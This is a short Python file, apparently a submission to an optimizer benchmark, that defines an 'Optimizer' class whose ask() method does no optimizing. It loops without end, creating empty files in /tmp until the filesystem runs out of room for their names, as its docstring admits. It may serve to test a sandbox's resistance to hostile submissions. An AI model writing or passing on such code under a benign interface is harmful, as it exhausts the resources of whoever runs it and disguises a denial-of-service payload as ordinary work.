"""Makes files without contents until there is no memory left for their names."""

import os
import random


class Optimizer:
    def __init__(self, space, seed, budget):
        self.space, self.rng = space, random.Random(seed)

    def ask(self):
        number = 0
        while True:
            os.close(os.open(f"/tmp/{number}", os.O_CREAT))
            number += 1

    def tell(self, genotype, result):
        pass
